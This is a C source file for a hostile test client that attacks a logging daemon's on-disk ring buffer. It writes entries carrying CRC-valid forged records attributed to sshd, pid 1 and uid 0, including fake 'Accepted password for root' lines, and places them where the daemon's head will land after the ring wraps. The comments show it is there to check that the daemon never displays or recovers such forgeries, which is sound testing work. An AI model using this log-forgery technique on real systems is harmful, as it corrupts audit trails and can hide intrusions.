/*
 * forge.c: a hostile client for t_forge.  It writes one entry whose
 * message holds a complete, CRC-valid record header (sshd, pid 1, uid 0)
 * at the offset where, after filler entries that go once round the ring,
 * the daemon's head will stand, then writes those fillers.  A daemon that
 * left the bytes at its head as an older lap left them would show the
 * forgery to readers, and adopt it at recovery.
 *
 * usage: forge SOCKET RING [FAKE_SEQ]
 *
 * forge plant SOCKET N: the attack of issue 16, by a client that cannot
 * read the ring.  It learns its own next seq from an ACK, then writes one
 * entry (synced) whose message holds N complete records, CRC and all
 * (unkeyed: it does not know the ring's key), numbered just after that
 * entry, from sshd, pid 1, uid 0, message "FORGED ...", laid out so that
 * they are 8-aligned in the ring, one after the other.  Prints "own SEQ
 * forged FIRST LAST".  Damage to its own record's header, or a power
 * loss, must never make a reader show them.
 */
#include <errno.h>
#include <fcntl.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/prctl.h>
#include <sys/socket.h>
#include <sys/un.h>
#include <time.h>
#include <unistd.h>
#include "wire.h"
#include "disk.h"

static int fd;
static uint32_t idn = 1;

static void
send_entry(const void *msg, size_t msg_len, int sync)
{
	static uint8_t buf[MML_FRAME_MAX], rb[4096];
	size_t len = mml_wire_entries_init(buf, sync ? MML_FRAME_F_SYNC : 0,
	    idn++, 0);
	if (mml_wire_entry_append(buf, sizeof(buf), &len, 6, "t", 1, msg,
	    msg_len, NULL, 0) < 0) { fprintf(stderr, "append\n"); exit(1); }
	if (send(fd, buf, len, 0) != (ssize_t)len) { perror("send"); exit(1); }
	if (sync) {
		ssize_t n = recv(fd, rb, sizeof(rb), 0);
		if (n < 16 || rb[5] != MML_FRAME_ACK) { fprintf(stderr, "no ack %zd type %x\n", n, n>5?rb[5]:0); exit(1); }
	}
}

/* Sends msg in one entry, with SYNC; returns the ACK's seq. */
static uint64_t
send_synced(const void *msg, size_t msg_len, uint64_t *ret_next)
{
	static uint8_t buf[MML_FRAME_MAX], rb[4096];
	struct mml_ack_body ack;
	size_t len = mml_wire_entries_init(buf, MML_FRAME_F_SYNC, idn++, 0);
	ssize_t n;

	if (mml_wire_entry_append(buf, sizeof(buf), &len, 6, "t", 1, msg,
	    msg_len, NULL, 0) < 0) { fprintf(stderr, "append\n"); exit(1); }
	if (send(fd, buf, len, 0) != (ssize_t)len) { perror("send"); exit(1); }
	n = recv(fd, rb, sizeof(rb), 0);
	if (n < 32 || rb[5] != MML_FRAME_ACK) { fprintf(stderr, "no ack\n"); exit(1); }
	memcpy(&ack, rb + 16, sizeof(ack));
	if (ret_next != NULL)
		*ret_next = ack.next_seq;
	return ack.seq;
}

static int
plant(unsigned count)
{
	static uint8_t msg[8192];
	struct mml_rec_hdr fh;
	char text[80];
	uint64_t next, own, at = 2;	/* 64 + comm 5 + tag 1 + 2 = 72 */
	unsigned i;

	(void)send_synced("hello", 5, &next);
	memset(msg, 0, sizeof(msg));
	for (i = 0; i < count; i++) {
		int tl = snprintf(text, sizeof(text), "FORGED Accepted "
		    "password for root from 10.6.6.6 port 22 (%u)", i);

		memset(&fh, 0, sizeof(fh));
		fh.type = MML_REC_ENTRY;
		fh.priority = 2;
		fh.comm_len = 4;
		fh.tag_len = 4;
		fh.msg_len = (uint32_t)tl;
		fh.seq = next + 1 + i;
		fh.realtime_usec = (uint64_t)time(NULL) * 1000000;
		fh.pid = 1;
		if (at + 256 > sizeof(msg)) { fprintf(stderr, "too many\n"); return 1; }
		at += mml_disk_rec_write(msg + at, &fh, "sshd", "sshd", text,
		    NULL, 0);
	}
	own = send_synced(msg, at, NULL);
	if (own != next) {
		fprintf(stderr, "forge: my entry got seq %llu, not %llu\n",
		    (unsigned long long)own, (unsigned long long)next);
		return 1;
	}
	printf("own %llu forged %llu %llu\n", (unsigned long long)own,
	    (unsigned long long)(own + 1), (unsigned long long)(own + count));
	return 0;
}

static void
read_hdr(const char *path, struct mml_disk_header *h)
{
	int f = open(path, O_RDONLY);
	if (pread(f, h, sizeof(*h), 0) != sizeof(*h)) exit(1);
	close(f);
}

/* Fills exactly `bytes` of ring with filler records; returns how many. */
static unsigned
fill(uint64_t bytes, int dry)
{
	static char junk[8192];
	unsigned n = 0;
	memset(junk, 'x', sizeof(junk));
	while (bytes > 0) {
		uint64_t size = bytes < 4096 ? bytes : 4096;
		if (bytes - size > 0 && bytes - size < 72)
			size = bytes - 72;
		if (!dry)
			send_entry(junk, size - 70, 0);
		bytes -= size;
		n++;
	}
	return n;
}

int
main(int argc, char **argv)
{
	struct sockaddr_un sa = { .sun_family = AF_UNIX };
	struct mml_disk_header h;
	static uint8_t msg[3000], fake[512];
	struct mml_rec_hdr fh;
	const char *text = "Accepted password for root from 10.6.6.6 port 22";
	uint64_t cap, O1, H1, P, fake_seq, e1_size;
	unsigned nf;

	if (argc < 3) return 2;
	prctl(PR_SET_NAME, "forge");	/* comm_len 5 */
	if (argc == 4 && strcmp(argv[1], "plant") == 0)
		strncpy(sa.sun_path, argv[2], sizeof(sa.sun_path) - 1);
	else
		strncpy(sa.sun_path, argv[1], sizeof(sa.sun_path) - 1);
	fd = socket(AF_UNIX, SOCK_SEQPACKET, 0);
	if (connect(fd, (void *)&sa, sizeof(sa)) < 0) { perror("connect"); return 1; }
	if (argc == 4 && strcmp(argv[1], "plant") == 0)
		return plant((unsigned)strtoul(argv[3], NULL, 0));
	send_entry("sync", 4, 1);
	read_hdr(argv[2], &h);
	cap = h.capacity;
	O1 = h.head_off;
	e1_size = mml_disk_rec_size(5, 1, sizeof(msg), 0);
	H1 = O1 + e1_size;
	P = (O1 + 70 + 8 + 7) & ~7ULL;
	/* seqs: E1 = head_seq, fillers next, the fake is what comes after. */
	nf = fill(cap - H1, 1) + fill(P, 1);
	fake_seq = argc > 3 ? strtoull(argv[3], NULL, 0) : h.head_seq + 1 + nf;
	memset(&fh, 0, sizeof(fh));
	fh.type = MML_REC_ENTRY; fh.priority = 2;
	fh.comm_len = 4; fh.tag_len = 4; fh.msg_len = strlen(text);
	fh.seq = fake_seq; fh.realtime_usec = (uint64_t)time(NULL) * 1000000;
	fh.pid = 1; fh.uid = 0; fh.gid = 0;
	{
		uint8_t tmp[512] = {0};
		uint64_t fsz = mml_disk_rec_write(tmp, &fh, "sshd", "sshd", text, NULL, 0);
		memcpy(fake, tmp, fsz);
		memset(msg, 0, sizeof(msg));
		memcpy(msg + (P - (O1 + 70)), fake, fsz);
	}
	printf("cap %llu O1 %llu P %llu fillers %u fake_seq %llu\n",
	    (unsigned long long)cap, (unsigned long long)O1,
	    (unsigned long long)P, nf, (unsigned long long)fake_seq);
	send_entry(msg, sizeof(msg), 0);
	fill(cap - H1, 0);
	fill(P, 0);
	{
		uint8_t b[16], rb[256];
		mml_wire_hdr_init(b, MML_FRAME_SYNC, 0, 999);
		send(fd, b, 16, 0);
		if (recv(fd, rb, sizeof(rb), 0) < 16 || rb[5] != MML_FRAME_ACK) { fprintf(stderr, "sync failed\n"); return 1; }
	}
	read_hdr(argv[2], &h);
	printf("after: head_off %llu head_seq %llu tail_seq %llu\n", (unsigned long long)h.head_off, (unsigned long long)h.head_seq, (unsigned long long)h.tail_seq);
	return 0;
}
